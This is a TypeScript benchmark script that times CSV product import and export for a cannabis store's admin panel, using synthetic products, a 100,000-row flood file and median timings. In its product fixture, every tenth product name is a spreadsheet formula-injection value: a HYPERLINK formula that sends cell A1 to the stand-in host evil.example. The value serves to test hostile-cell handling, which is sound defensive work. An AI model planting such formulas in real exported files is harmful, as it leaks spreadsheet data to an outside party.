// Issue 23's CSV figures, printed (never asserted): how long the back office's main thread is
// busy with Import Products' largest file (4 MB, 5000 products: the server's limits), with a
// 100,000-row file it refuses, and with Export Products of 5000 products (docs/decisions/023-csv-cells.md).
// In Node; the browser runs the same papaparse and valibot code.
// Run: npx tsx tests/bench/csv-import-bench.ts [--runs 7]
import { parseArgs } from 'node:util'
import {
  MAX_IMPORT_BYTES,
  MAX_IMPORT_ROWS,
  parseProductsCsv,
  productsToCsv,
} from '../../src/features/admin/admin-csv'
import type { AdminProductRow } from '../../src/features/admin/admin-product'
import { writeBenchFigures, type Figure } from './bench-figures'

const { values } = parseArgs({ options: { runs: { type: 'string', default: '7' } }, strict: false })
const runs = Number(values.runs)

function product(i: number, description: string): AdminProductRow {
  return {
    id: `p${i}`,
    name: i % 10 === 0 ? `=HYPERLINK("https://evil.example/?"&A1,"${i}")` : `Product ${i}, "house"`,
    slug: `product-${i}`,
    sku: `SKU-${i}`,
    description,
    price: 10 + (i % 50),
    original_price: null,
    quantity_available: i % 30,
    is_unlimited_quantity: false,
    is_active: true,
    is_on_sale: false,
    is_featured: false,
    rating: 0,
    review_count: 0,
    thc_percentage: 20,
    cbd_percentage: 0.5,
    total_cannabinoids_percentage: null,
    smokeback_percentage: null,
    weight_grams: 3.5,
    is_cannabis: true,
    limit_class: 'flower',
    limit_grams: null,
    thc_mg: null,
    cbd_mg: null,
    servings: null,
    metrc_package_tag: null,
    metrc_unit: null,
    created_at: '2026-11-20T12:00:00.000Z',
    updated_at: '2026-11-20T12:00:00.000Z',
    brand_id: 'b1',
    category_id: 'c1',
    product_type_id: null,
    brand: { id: 'b1', name: 'Humo Farms' },
    category: { id: 'c1', name: 'Flower' },
    product_type: null,
    product_media: [
      {
        id: `m${i}`,
        media_url: `seed/flower-${i % 8}.png`,
        media_type: 'image',
        is_primary: true,
        display_order: 0,
      },
    ],
    product_effects: [
      { id: `e${i}`, effect_name: 'Happy' },
      { id: `f${i}`, effect_name: 'Calm' },
    ],
    terpene_profiles: [{ id: `t${i}`, terpene_name: 'Myrcene', percentage: 0.4 }],
  }
}

function median(samples: number[]) {
  const sorted = [...samples].sort((a, b) => a - b)
  return sorted[Math.floor(sorted.length / 2)]!
}

function time(fn: () => void) {
  const samples: number[] = []
  for (let i = 0; i < runs; i++) {
    const start = performance.now()
    fn()
    samples.push(performance.now() - start)
  }
  return Math.round(median(samples) * 10) / 10
}

// Descriptions long enough that 5000 products fill the 4 MB the import reads at most.
const base = productsToCsv(
  Array.from({ length: MAX_IMPORT_ROWS }, (_, i) => product(i, 'Sticky buds. '.repeat(20))),
)
const pad = Math.max(0, Math.floor((MAX_IMPORT_BYTES - base.length) / MAX_IMPORT_ROWS) - 20)
const rows = Array.from({ length: MAX_IMPORT_ROWS }, (_, i) =>
  product(i, `${'Sticky buds. '.repeat(20)}${'x'.repeat(pad)}\nsecond line`),
)
const largest = productsToCsv(rows)
const lookups = {
  brands: [{ id: 'b1', name: 'Humo Farms' }],
  categories: [{ id: 'c1', name: 'Flower' }],
  productTypes: [],
  existing: rows.map((r) => ({ id: r.id, sku: r.sku })),
}
const parsed = parseProductsCsv(largest, lookups)
if (parsed.fileErrors.length || parsed.rows.some((r) => r.errors.length)) {
  throw new Error(`the largest file did not read cleanly: ${JSON.stringify(parsed.fileErrors)}`)
}
const flood = [
  'sku,name,media',
  ...Array.from({ length: 100_000 }, (_, i) => `S-${i},N ${i},a.png`),
].join('\n')

const figures: Figure[] = [
  {
    label: `Import Products: read and check the largest file (${(largest.length / 1024 / 1024).toFixed(1)} MB, ${MAX_IMPORT_ROWS} rows)`,
    value: time(() => parseProductsCsv(largest, lookups)),
    unit: 'ms',
    goal: { op: '<', value: 500 },
  },
  {
    label: 'Import Products: refuse a file of 100,000 rows',
    value: time(() => parseProductsCsv(flood, lookups)),
    unit: 'ms',
    goal: { op: '<', value: 500 },
  },
  {
    label: `Export Products: write ${MAX_IMPORT_ROWS} products`,
    value: time(() => productsToCsv(rows)),
    unit: 'ms',
  },
]
for (const f of figures) console.log(`${f.label}: ${f.value} ${f.unit}`)
const out = writeBenchFigures('csv-import-bench', {
  title: 'CSV import and export on the main thread (issue 23, docs/decisions/023-csv-cells.md)',
  figures,
  notes: [
    `Median of ${runs} runs in Node (papaparse and valibot, as in the browser).`,
    'A file over 4 MB is refused by its size before it is read; these are the worst files that are read.',
  ],
})
console.log(`report: ${out}`)
